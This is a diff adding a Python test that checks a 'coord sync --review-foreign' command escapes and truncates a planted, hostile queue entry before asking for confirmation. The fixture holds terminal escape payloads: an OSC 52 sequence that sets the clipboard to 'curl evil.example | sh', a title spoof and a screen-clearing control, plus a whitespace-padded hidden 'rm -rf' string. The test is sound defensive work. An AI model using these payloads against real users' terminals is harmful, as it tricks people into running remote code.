@@ -1,0 +1,39 @@
+"""``coord sync --review-foreign`` shows a planted queue entry so that it cannot hide or act on the terminal.
+
+The entry comes from a file a repository wrote: its bytes reach the
+victim's terminal only escaped (no OSC 52 clipboard write, no title change),
+and the question shows the method, path, params and body that a yes would
+send, a long one visibly cut. A real hub and a real ``coord`` subprocess.
+"""
+
+from __future__ import annotations
+
+import json
+
+from tests.client.test_repo_attacks import B, Victim, cloned
+from tests.client.test_repo_attacks import victim as victim  # noqa: F401 - the fixture, used by name
+
+OSC52 = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07"  # sets the clipboard to "curl evil.example | sh"
+TITLE = "\x1b]0;all good\x07"
+C1_CSI = "\x9b2J"  # the 8-bit CSI: clears the screen on terminals that take C1 controls
+
+
+def test_review_foreign_escapes_the_entry_and_shows_params_and_body(victim: Victim) -> None:
+    entry = {"ts": "2026-01-01T00:00:00Z", "method": "POST", "path": "/api/coord/messages",
+             "params": {"as": "x" * 3000 + "hidden-param"},
+             "body": {"to_session": B, "subject": f"hi{OSC52}{TITLE}{C1_CSI}",
+                      "body": " " * 5000 + "rm -rf the hidden part"}}
+    lines = json.dumps(entry, ensure_ascii=False) + "\n" + f"not an entry {OSC52}{TITLE}\n"  # raw bytes, both
+    clone = cloned(victim.tmp, {".claude/coord-queue.jsonl": lines})
+    r = victim.coord(clone)("sync", "--review-foreign", stdin="n\n")
+    assert r.code == 0, r
+    shown = r.out + r.err
+    assert "\x1b" not in shown and "\x07" not in shown and "\x9b" not in shown, repr(shown)
+    assert "\\x1b]52;c;" in r.out and "\\x9b2J" in r.out  # shown, as escapes
+    assert "    method: POST" in r.out and "    path:   /api/coord/messages" in r.out, r
+    params = next(line for line in r.out.splitlines() if line.startswith("    params: "))
+    body = next(line for line in r.out.splitlines() if line.startswith("    body:   "))
+    assert "more characters not shown]" in params and "hidden-param" not in params, params
+    assert "more characters not shown]" in body and "hidden part" not in body, body
+    assert "send this POST to" in r.out and "left in the queue" in r.out, r
+    assert victim.inbox_b() == []
